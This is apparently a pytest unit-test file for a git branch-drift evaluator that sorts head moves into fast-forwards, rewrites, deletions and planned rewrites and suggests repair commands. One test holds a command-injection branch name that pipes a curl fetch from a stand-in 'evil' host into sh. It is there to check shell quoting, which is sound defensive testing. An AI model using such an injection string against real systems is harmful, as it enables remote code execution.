"""What is decided about a head that moved: advance, record, wait, or say that it drifted."""

import shlex
from dataclasses import replace
from datetime import timedelta
from typing import Any

import pytest

from governance.domain.policy import Policy
from reconciliation.domain.facts import HeadFacts, RunFact
from reconciliation.domain.findings import Decision, FindingDraft
from reconciliation.evaluators.head_drift import evaluate_head_drift
from tests.unit.evaluators.facts import (
    DEFAULTS,
    INSTANT,
    NOON,
    NULL_IDS,
    A,
    B,
    C,
    D,
    head_facts,
    lease,
    place,
    policy,
    request,
    run,
    running,
    seconds,
)


def decide(facts: HeadFacts, rules: Policy = DEFAULTS) -> Decision:
    return evaluate_head_drift(facts, rules, NOON)


def finding_of(facts: HeadFacts, rules: Policy = DEFAULTS) -> FindingDraft:
    decision = decide(facts, rules)
    assert decision.decision == "drift"
    assert not decision.clean
    (finding,) = decision.findings
    return finding


def rules_of(finding: FindingDraft) -> list[str]:
    return [hit.rule for hit in finding.rule_hits]


# --- every class on every class of branch ---------------------------------------------------------

CRITICAL, MEDIUM, LOW, INFO = "critical", "medium", "low", "info"


@pytest.mark.parametrize(
    ("relation", "branch_class", "rule", "severity"),
    [
        ("ancestor", "default", "drift.ungoverned_protected", MEDIUM),
        ("ancestor", "protected", "drift.ungoverned_protected", MEDIUM),
        ("ancestor", "governed", "drift.ungoverned_governed", MEDIUM),
        ("ancestor", "other", "drift.ungoverned_other", INFO),
        ("descendant", "default", "drift.rewrite_protected", CRITICAL),
        ("descendant", "protected", "drift.rewrite_protected", CRITICAL),
        ("descendant", "governed", "drift.rewrite_governed", MEDIUM),
        ("descendant", "other", "drift.rewrite_other", LOW),
        ("diverged", "default", "drift.rewrite_protected", CRITICAL),
        ("diverged", "protected", "drift.rewrite_protected", CRITICAL),
        ("diverged", "governed", "drift.rewrite_governed", MEDIUM),
        ("diverged", "other", "drift.rewrite_other", LOW),
        ("unrelated", "default", "drift.rewrite_protected", CRITICAL),
        ("unrelated", "protected", "drift.rewrite_protected", CRITICAL),
        ("unrelated", "governed", "drift.rewrite_governed", MEDIUM),
        ("unrelated", "other", "drift.rewrite_other", LOW),
        ("unknown", "default", "drift.unknown", MEDIUM),
        ("unknown", "protected", "drift.unknown", MEDIUM),
        ("unknown", "governed", "drift.unknown", MEDIUM),
        ("unknown", "other", "drift.unknown", MEDIUM),
    ],
)
def test_a_moved_head_is_as_bad_as_its_history_and_its_branch(
    relation: str, branch_class: str, rule: str, severity: str
) -> None:
    finding = finding_of(head_facts(relation, branch_class=branch_class))

    assert (rules_of(finding), finding.severity) == ([rule], severity)
    assert finding.alerting == (severity == CRITICAL)


@pytest.mark.parametrize(
    ("branch_class", "rule", "severity"),
    [
        ("default", "drift.delete_protected", CRITICAL),
        ("protected", "drift.delete_protected", CRITICAL),
        ("governed", "drift.delete_governed", MEDIUM),
        ("other", "drift.delete_other", INFO),
    ],
)
def test_a_deleted_branch(branch_class: str, rule: str, severity: str) -> None:
    finding = finding_of(head_facts("", observed_head=None, branch_class=branch_class))

    assert (rules_of(finding), finding.severity) == ([rule], severity)
    assert finding.actual[0] == ("observed_head", "")


@pytest.mark.parametrize(
    ("branch_class", "rule", "severity"),
    [
        ("default", "drift.created_protected", MEDIUM),
        ("protected", "drift.created_protected", MEDIUM),
        ("governed", "drift.created_governed", LOW),
    ],
)
def test_a_new_branch_that_matters_waits_for_a_run_or_a_person(
    branch_class: str, rule: str, severity: str
) -> None:
    finding = finding_of(head_facts("", governed_head=None, branch_class=branch_class))

    assert (rules_of(finding), finding.severity) == ([rule], severity)


def test_the_first_head_of_an_ungoverned_branch_becomes_its_snapshot_at_once() -> None:
    just_now = head_facts("", governed_head=None, head_changed_at=NOON)

    assert decide(just_now) == Decision("record_snapshot", "created", clean=True, advance_to=B)


@pytest.mark.parametrize("branch_class", ["default", "protected"])
@pytest.mark.parametrize("relation", ["descendant", "diverged", "unrelated"])
def test_a_protected_branch_that_is_back_with_another_history_stays_critical(
    relation: str, branch_class: str
) -> None:
    finding = finding_of(head_facts(relation, was_gone=True, branch_class=branch_class))

    assert finding.stable_class == "recreated"
    assert finding.severity == CRITICAL
    assert rules_of(finding) == [
        "drift.delete_protected",
        "drift.rewrite_protected",
        "drift.recreated",
    ]


def test_a_protected_branch_that_is_back_is_as_bad_as_one_that_is_gone() -> None:
    gone = finding_of(head_facts("", branch_class="default", observed_head=None))
    back = finding_of(head_facts("ancestor", branch_class="default", was_gone=True))

    assert (gone.severity, back.severity) == (CRITICAL, CRITICAL)


def test_an_ordinary_branch_that_is_back_is_for_review() -> None:
    finding = finding_of(head_facts("ancestor", was_gone=True))

    assert (finding.stable_class, finding.severity) == ("recreated", MEDIUM)


@pytest.mark.parametrize("nothing", NULL_IDS)
def test_a_null_head_is_a_deletion_and_is_shown_as_nothing(nothing: str) -> None:
    assert decide(head_facts(observed_head=nothing)) == decide(head_facts(observed_head=None))


# --- a clean-up after a merge ---------------------------------------------------------------------

CLEANED_UP = head_facts(
    "",
    branch_class="governed",
    observed_head=None,
    previous_head=A,
    merged_from=(request(state="merged", head_sha=A),),
)


@pytest.mark.parametrize(
    ("branch_class", "rule", "severity"),
    [("governed", "drift.delete_merged", LOW), ("other", "drift.delete_other", INFO)],
)
def test_a_working_branch_that_was_deleted_once_it_was_merged_is_expected(
    branch_class: str, rule: str, severity: str
) -> None:
    decision = decide(replace(CLEANED_UP, branch_class=branch_class))

    (finding,) = decision.findings
    assert (decision.decision, decision.reason) == ("expected", "merged, then deleted")
    assert (rules_of(finding), finding.severity, finding.alerting) == ([rule], severity, False)
    assert finding.stable_class == "deleted"
    assert finding.recommendation.startswith("Nothing is lost")
    assert finding.command == f"git push origin {A}:refs/heads/topic"


def test_it_is_expected_at_once_and_says_which_pull_request_merged_it() -> None:
    decision = decide(replace(CLEANED_UP, head_changed_at=NOON))

    assert decision.decision == "expected"
    assert decision.findings[0].rule_hits[0].inputs == (("pull_request", "#7"),)


@pytest.mark.parametrize(
    ("change", "rule"),
    [
        ({"merged_from": ()}, "drift.delete_governed"),
        # Something was pushed after the head that governance knows, or something else was merged.
        ({"previous_head": B}, "drift.delete_governed"),
        ({"merged_from": (request(state="merged", head_sha=B),)}, "drift.delete_governed"),
        ({"branch_class": "default"}, "drift.delete_protected"),
        ({"branch_class": "protected"}, "drift.delete_protected"),
        ({"leases": (lease(),)}, "drift.not_lease_holder"),
        # It is back: what it came back as is another question.
        ({"observed_head": B, "was_gone": True, "relation": "ancestor"}, "drift.delete_governed"),
    ],
)
def test_a_merge_excuses_no_other_deletion(change: dict[str, Any], rule: str) -> None:
    finding = finding_of(replace(CLEANED_UP, **change))

    assert rule in rules_of(finding)


def test_a_deletion_names_the_pull_requests_that_go_with_the_branch() -> None:
    stacked = (request(9, base_branch="topic"), request(8, base_branch="topic"))

    finding = finding_of(head_facts("", observed_head=None, open_onto=stacked))

    assert ("open_onto", "#8, #9") in finding.actual


# --- what cannot be told --------------------------------------------------------------------------


@pytest.mark.parametrize("relation", ["same", "", "sideways"])
def test_an_unmapped_relation_is_for_review_and_never_info(relation: str) -> None:
    silenced = policy(
        {"review.unmapped": {"weight": 0}, "drift.unknown": {"weight": 0}},
    )

    finding = finding_of(head_facts(relation), silenced)

    assert finding.stable_class == "unknown"
    assert (finding.rule_hits[0].rule, finding.severity) == ("review.unmapped", MEDIUM)
    assert ("relation", relation) in finding.rule_hits[0].inputs


def test_an_unmapped_class_of_branch_is_for_review_and_never_info() -> None:
    finding = finding_of(head_facts("diverged", branch_class="sacred"))

    assert (rules_of(finding), finding.severity) == (["review.unmapped"], MEDIUM)
    assert ("branch_class", "sacred") in finding.rule_hits[0].inputs


def test_why_it_cannot_be_told_is_told() -> None:
    facts = head_facts("unknown", relation_reason="the remote no longer has this commit")

    finding = finding_of(facts)

    assert finding.rule_hits[0].inputs == (("reason", "the remote no longer has this commit"),)
    assert finding.summary.endswith("cannot be told: the remote no longer has this commit.")


# --- settling -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("age", "decision"),
    [
        (seconds(15) - INSTANT, "settle"),
        (seconds(15), "drift"),
        (seconds(15) + INSTANT, "drift"),
        (seconds(0), "settle"),
    ],
)
@pytest.mark.parametrize("branch_class", ["default", "other"])
@pytest.mark.parametrize("relation", ["ancestor", "unknown"])
def test_a_head_is_left_to_settle_for_exactly_the_settle_time(
    relation: str, branch_class: str, age: timedelta, decision: str
) -> None:
    facts = head_facts(relation, branch_class=branch_class, head_changed_at=NOON - age)

    assert decide(facts).decision == decision


def test_settling_comes_back_when_it_is_over_and_is_no_evidence() -> None:
    facts = head_facts(head_changed_at=NOON - seconds(5))

    assert decide(facts) == Decision(
        "settle", "fast_forward", clean=False, defer_until=NOON + seconds(10)
    )


@pytest.mark.parametrize("branch_class", ["default", "protected"])
@pytest.mark.parametrize("relation", ["descendant", "diverged", "unrelated"])
def test_a_rewrite_of_a_protected_branch_never_settles(relation: str, branch_class: str) -> None:
    facts = head_facts(relation, branch_class=branch_class, head_changed_at=NOON)

    assert decide(facts).decision == "drift"
    assert decide(replace(facts, was_gone=True)).decision == "drift"
    assert decide(replace(facts, observed_head=None)).decision == "drift"


@pytest.mark.parametrize("branch_class", ["governed", "other"])
@pytest.mark.parametrize("relation", ["descendant", "diverged", "unrelated"])
def test_a_rewrite_of_any_other_branch_settles(relation: str, branch_class: str) -> None:
    facts = head_facts(relation, branch_class=branch_class, head_changed_at=NOON)

    assert decide(facts).decision == "settle"
    assert decide(replace(facts, observed_head=None)).decision == "settle"


def test_the_settle_time_is_the_policys() -> None:
    facts = head_facts(head_changed_at=NOON - seconds(119))

    assert decide(facts, policy(head_drift={"settle_seconds": 120})).decision == "settle"
    assert decide(facts, policy(head_drift={"settle_seconds": 119})).decision == "drift"


# --- run records ----------------------------------------------------------------------------------


@pytest.mark.parametrize("branch_class", ["default", "protected", "governed", "other"])
def test_a_fast_forward_that_a_run_covers_advances_the_snapshot_at_once(branch_class: str) -> None:
    facts = head_facts(branch_class=branch_class, runs=(run(A, B),), head_changed_at=NOON)

    assert decide(facts) == Decision(
        "advance_snapshot", "fast_forward", clean=True, advance_to=B, advance_run_ids=("run-1",)
    )


def test_a_chain_of_runs_covers_every_step_in_order() -> None:
    chain = (run(C, D, "run-1"), run(A, B, "run-3"), run(B, C, "run-2"))

    decision = decide(head_facts(observed_head=D, runs=chain))

    assert decision.advance_run_ids == ("run-3", "run-2", "run-1")
    assert decision.advance_to == D


@pytest.mark.parametrize(
    "runs",
    [
        (),
        (run(A, C, "run-1"), run(D, B, "run-2")),  # a gap between C and D
        (run(C, B),),  # ends there, but begins elsewhere
        (run(A, C),),  # begins there, but ends elsewhere
        (run(B, A),),  # the other way round
        (run(A, B, status="failed"),),
        (run(A, B, status="abandoned"),),
        (run(A, B, status="running", last_heartbeat_at=NOON - timedelta(days=1)),),
        (run(A, ""),),
        (run(A, A), run(B, B, "run-2")),
    ],
)
def test_a_chain_with_a_gap_covers_nothing(runs: tuple[RunFact, ...]) -> None:
    assert decide(head_facts(runs=runs)).decision == "drift"


@pytest.mark.parametrize("branch_class", ["default", "protected", "governed", "other"])
def test_a_new_branch_is_covered_by_the_run_that_ends_at_its_head(branch_class: str) -> None:
    created = head_facts("", governed_head=None, branch_class=branch_class)

    covered = decide(replace(created, runs=(run(NULL_IDS[0], B), run(C, D, "run-2"))))
    foreign = decide(replace(created, runs=(run(A, C),)))

    assert (covered.decision, covered.advance_run_ids) == ("advance_snapshot", ("run-1",))
    assert foreign.decision == "drift"


@pytest.mark.parametrize("relation", ["descendant", "diverged"])
@pytest.mark.parametrize("branch_class", ["governed", "other"])
def test_a_recorded_rebase_of_a_working_branch_advances_its_snapshot(
    relation: str, branch_class: str
) -> None:
    facts = head_facts(relation, branch_class=branch_class, runs=(run(A, B),))

    assert decide(facts).decision == "advance_snapshot"


@pytest.mark.parametrize("branch_class", ["default", "protected"])
@pytest.mark.parametrize("relation", ["descendant", "diverged", "unrelated", "unknown"])
def test_no_run_record_excuses_a_rewrite_of_a_protected_branch(
    relation: str, branch_class: str
) -> None:
    facts = head_facts(relation, branch_class=branch_class)

    with_run = decide(replace(facts, runs=(run(A, B),)))

    assert with_run == decide(facts)
    assert with_run.decision == "drift"


@pytest.mark.parametrize("relation", ["unrelated", "unknown"])
def test_no_run_record_vouches_for_a_history_that_shares_nothing_or_cannot_be_told(
    relation: str,
) -> None:
    facts = head_facts(relation, branch_class="governed", runs=(run(A, B),))

    assert decide(facts).decision == "drift"


def test_a_branch_that_is_back_with_a_covered_change_is_governed_again() -> None:
    facts = head_facts("ancestor", was_gone=True, branch_class="governed", runs=(run(A, B),))

    assert decide(facts) == Decision(
        "advance_snapshot", "recreated", clean=True, advance_to=B, advance_run_ids=("run-1",)
    )
    assert decide(replace(facts, relation="diverged", branch_class="default")).decision == "drift"


# --- a head that moved after its approved run -----------------------------------------------------


@pytest.mark.parametrize(
    "runs",
    [
        (run(D, A),),  # the run that led to the snapshot
        (run(A, C),),  # a run from the snapshot to somewhere else
        (run(A, C), run(C, D, "run-2")),
    ],
)
@pytest.mark.parametrize("relation", ["ancestor", "diverged", "descendant"])
def test_a_working_branch_that_moved_after_its_approved_run_is_a_high_risk(
    relation: str, runs: tuple[RunFact, ...]
) -> None:
    finding = finding_of(head_facts(relation, branch_class="governed", runs=runs))

    assert finding.rule_hits[0].rule == "drift.moved_after_run"
    assert finding.rule_hits[0].inputs == (("run", runs[-1].run_id),)
    assert (finding.severity, finding.alerting) == ("high", True)


@pytest.mark.parametrize("branch_class", ["default", "protected"])
def test_on_a_protected_branch_every_change_has_a_run_of_its_own(branch_class: str) -> None:
    finding = finding_of(head_facts(branch_class=branch_class, runs=(run(D, A),)))

    assert rules_of(finding) == ["drift.ungoverned_protected"]


def test_a_failed_run_approved_nothing() -> None:
    failed = (run(D, A, status="failed"), run(A, C, "run-2", status="abandoned"))

    assert rules_of(finding_of(head_facts(runs=failed))) == ["drift.ungoverned_other"]


def test_a_new_branch_whose_run_ended_elsewhere_moved_after_it() -> None:
    facts = head_facts("", governed_head=None, runs=(run(A, C),))

    assert rules_of(finding_of(facts)) == ["drift.moved_after_run", "drift.created_other"]


def test_a_deleted_branch_did_not_move_after_its_run() -> None:
    finding = finding_of(head_facts("", observed_head=None, runs=(run(D, A),)))

    assert rules_of(finding) == ["drift.delete_other"]


# --- a run that still runs ------------------------------------------------------------------------


def test_a_change_waits_for_the_living_run_that_may_record_it() -> None:
    facts = head_facts(branch_class="governed", runs=(running(actor="bob"),))

    assert decide(facts) == Decision(
        "running",
        "fast_forward",
        clean=False,
        defer_until=NOON + seconds(300),
        reason="run run-9 is still running",
    )


@pytest.mark.parametrize(
    ("heartbeat_age", "decision"),
    [
        (seconds(300) - INSTANT, "running"),
        (seconds(300), "drift"),
        (seconds(300) + INSTANT, "drift"),
    ],
)
def test_a_run_without_heartbeats_is_dead_and_not_waited_for(
    heartbeat_age: timedelta, decision: str
) -> None:
    facts = head_facts(runs=(running(actor="bob", heartbeat=NOON - heartbeat_age),))

    assert decide(facts).decision == decision


@pytest.mark.parametrize(
    ("pusher", "decision"),
    [("bob", "running"), ("", "running"), ("alice", "running"), ("mallory", "drift")],
)
def test_what_somebody_else_pushes_does_not_wait_for_the_run(pusher: str, decision: str) -> None:
    under = lease(user_id="alice", agent_id="bob")
    its_run = running(actor="engine", lease_id=under.lease_id)

    assert decide(head_facts(pusher=pusher, runs=(its_run,), leases=(under,))).decision == decision
    if pusher == "mallory":
        assert decide(head_facts(pusher=pusher, runs=(its_run,))).decision == "drift"


@pytest.mark.parametrize("relation", ["descendant", "diverged", "unrelated", "unknown"])
def test_a_rewrite_of_a_protected_branch_waits_for_no_run(relation: str) -> None:
    facts = head_facts(relation, branch_class="default", runs=(running(actor="bob"),))

    assert decide(facts).decision == "drift"


def test_a_direct_push_waits_for_no_run() -> None:
    facts = head_facts(branch_class="default", runs=(running(actor="bob"),))

    assert decide(facts).decision == "running"
    assert decide(facts, policy(changes={"required_pr_flow": True})).decision == "drift"


# --- modes and weights ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("mode", "decision", "findings", "alerting"),
    [("off", "off", 0, False), ("observe", "drift", 1, False), ("alert", "drift", 1, True)],
)
def test_the_mode_of_the_check(mode: str, decision: str, findings: int, alerting: bool) -> None:
    facts = head_facts("diverged", branch_class="default")

    answer = decide(facts, policy(head_drift={"mode": mode}))

    assert (answer.decision, len(answer.findings)) == (decision, findings)
    assert answer.clean == (mode == "off")
    assert any(draft.alerting for draft in answer.findings) == alerting
    assert answer.severity == ("critical" if findings else "")


def test_a_check_that_is_off_still_says_when_heads_agree() -> None:
    agreeing = head_facts("same", observed_head=A)

    assert decide(agreeing, policy(head_drift={"mode": "off"})).decision == "in_sync"


def test_a_rule_that_is_off_is_not_heard() -> None:
    rules = policy({"drift.rewrite_protected": {"mode": "off"}})
    rewritten = head_facts("diverged", branch_class="default")

    assert decide(rewritten, rules) == Decision(
        "off", "rewritten", clean=True, reason="every rule that applies is off"
    )


def test_a_rule_that_observes_adds_to_the_severity_but_raises_no_alert() -> None:
    rules = policy({"drift.rewrite_protected": {"mode": "observe"}})

    finding = finding_of(head_facts("diverged", branch_class="default"), rules)

    assert (finding.severity, finding.alerting) == ("critical", False)


def test_one_rule_may_alert_while_its_check_observes() -> None:
    rules = policy({"drift.rewrite_protected": {"mode": "alert"}}, head_drift={"mode": "observe"})

    assert finding_of(head_facts("diverged", branch_class="default"), rules).alerting


@pytest.mark.parametrize(
    ("weight", "severity", "alerting"),
    [
        (0, "info", False),
        (14, "info", False),
        (15, "low", False),
        (39, "low", False),
        (40, "medium", False),
        (69, "medium", False),
        (70, "high", True),
        (89, "high", True),
        (90, "critical", True),
        (100, "critical", True),
    ],
)
def test_a_policy_may_weigh_a_rule_anew(weight: int, severity: str, alerting: bool) -> None:
    rules = policy({"drift.ungoverned_other": {"weight": weight}})

    finding = finding_of(head_facts(), rules)

    assert (finding.rule_hits[0].weight, finding.severity) == (weight, severity)
    assert finding.alerting == alerting


def test_the_policy_says_from_which_severity_on_there_is_an_alert() -> None:
    medium = head_facts(branch_class="governed")

    assert not finding_of(medium).alerting
    assert finding_of(medium, policy(alerts={"from_severity": "medium"})).alerting
    assert not finding_of(
        head_facts("diverged", branch_class="governed"),
        policy(alerts={"from_severity": "critical"}),
    ).alerting


# --- direct pushes --------------------------------------------------------------------------------

PR_FLOW = policy(changes={"required_pr_flow": True})


def test_a_direct_push_to_the_default_branch_is_a_high_risk_where_pull_requests_are_the_way() -> (
    None
):
    finding = finding_of(head_facts(branch_class="default"), PR_FLOW)

    assert rules_of(finding) == ["drift.direct_push", "drift.ungoverned_protected"]
    assert (finding.severity, finding.alerting) == ("high", True)


@pytest.mark.parametrize("branch_class", ["protected", "governed", "other"])
def test_only_the_default_branch_requires_the_flow(branch_class: str) -> None:
    finding = finding_of(head_facts(branch_class=branch_class), PR_FLOW)

    assert "drift.direct_push" not in rules_of(finding)


def test_the_merge_of_a_pull_request_is_no_direct_push() -> None:
    merged = request(state="merged", merge_sha=B, base_branch="main")

    finding = finding_of(
        head_facts(branch_class="default", merged_pull_requests=(merged,)), PR_FLOW
    )

    assert rules_of(finding) == ["drift.ungoverned_protected"]


# --- planned rewrites -----------------------------------------------------------------------------


def planned(branch: str = "topic", actor: str = "bob", **values: str) -> Policy:
    window = {
        "branch": branch,
        "actor": actor,
        "starts_at": "2026-03-02T11:00:00.000000Z",
        "ends_at": "2026-03-02T11:30:00.000000Z",
    }
    return policy(head_drift={"expected_rewrites": [window | values]})


IN_WINDOW = head_facts(
    "diverged", branch_class="default", head_changed_at=NOON - timedelta(minutes=45)
)


@pytest.mark.parametrize("relation", ["descendant", "diverged", "unrelated"])
def test_a_planned_rewrite_is_noted_for_somebody_to_accept(relation: str) -> None:
    decision = decide(replace(IN_WINDOW, relation=relation), planned())

    (finding,) = decision.findings
    assert (decision.decision, decision.clean) == ("expected", False)
    assert (rules_of(finding), finding.severity) == (["drift.expected_rewrite"], "info")
    assert not finding.alerting
    assert finding.recommendation == "It was planned: look at the new head and accept it."


@pytest.mark.parametrize(
    ("moved_before_noon", "decision"),
    [
        (timedelta(minutes=60) + INSTANT, "drift"),
        (timedelta(minutes=60), "expected"),
        (timedelta(minutes=30), "expected"),
        (timedelta(minutes=30) - INSTANT, "drift"),
    ],
)
def test_a_window_opens_and_closes_at_its_very_instants(
    moved_before_noon: timedelta, decision: str
) -> None:
    facts = replace(IN_WINDOW, head_changed_at=NOON - moved_before_noon)

    assert decide(facts, planned()).decision == decision


@pytest.mark.parametrize(
    ("pattern", "branch", "decision"),
    [
        ("topic", "topic", "expected"),
        ("release/*", "release/2.1", "expected"),
        ("**", "a/b/c", "expected"),
        ("release/*", "release/2/1", "drift"),
        ("topic", "topic-2", "drift"),
        ("*", "a/b", "drift"),
    ],
)
def test_a_window_names_branches_by_pattern(pattern: str, branch: str, decision: str) -> None:
    facts = replace(IN_WINDOW, place=place(branch))

    assert decide(facts, planned(pattern)).decision == decision


@pytest.mark.parametrize(
    ("actor", "pusher", "decision"),
    [
        ("bob", "bob", "expected"),
        ("bob", "mallory", "drift"),
        ("bob", "", "drift"),
        ("*", "mallory", "expected"),
        ("*", "", "expected"),
    ],
)
def test_a_window_is_for_its_actor(actor: str, pusher: str, decision: str) -> None:
    facts = replace(IN_WINDOW, pusher=pusher)

    assert decide(facts, planned(actor=actor)).decision == decision


@pytest.mark.parametrize("relation", ["ancestor", "unknown"])
def test_a_window_expects_rewrites_only(relation: str) -> None:
    assert decide(replace(IN_WINDOW, relation=relation), planned()).decision == "drift"
    assert decide(replace(IN_WINDOW, observed_head=None), planned()).decision == "drift"


def test_a_planned_rewrite_excuses_nothing_else() -> None:
    held = replace(IN_WINDOW, leases=(lease(),))

    finding = finding_of(held, planned())

    assert rules_of(finding) == ["drift.not_lease_holder", "drift.expected_rewrite"]
    assert finding.severity == "high"


def test_a_planned_rewrite_of_a_working_branch_is_known_to_take_its_approval_away() -> None:
    facts = replace(IN_WINDOW, branch_class="governed", runs=(run(D, A),))

    assert decide(facts, planned()).decision == "expected"
    assert decide(facts).decision == "drift"


# --- what a person reads --------------------------------------------------------------------------


def test_a_finding_says_what_is_expected_what_is_and_what_to_run() -> None:
    finding = finding_of(head_facts("diverged", branch_class="default"))

    assert finding.expected == (("governed_head", A),)
    assert dict(finding.actual) == {
        "observed_head": B,
        "ahead": "2",
        "behind": "0",
        "pusher": "bob",
        "committer": "bob@example.org",
        "announced_by": "webhook",
    }
    assert finding.command == (
        f"git push --force-with-lease=refs/heads/topic:{B} origin {A}:refs/heads/topic"
    )
    assert finding.rule_hits[0].inputs == (("class", "rewritten"),)


def test_commands_quote_branch_names_for_the_shell() -> None:
    hostile = "main;curl$IFS'evil'|sh"

    words = shlex.split(finding_of(head_facts("diverged", place=place(hostile))).command)

    assert words[-1] == f"{A}:refs/heads/{hostile}"
    assert words[2] == f"--force-with-lease=refs/heads/{hostile}:{B}"


@pytest.mark.parametrize("relation", ["ancestor", "descendant", "diverged", "unrelated", "unknown"])
def test_no_command_ever_overwrites_a_head_that_nobody_looked_at(relation: str) -> None:
    for was_gone in (False, True):
        command = finding_of(head_facts(relation, was_gone=was_gone)).command
        pushes = "push" in shlex.split(command)
        assert not pushes or f"--force-with-lease=refs/heads/topic:{B}" in command
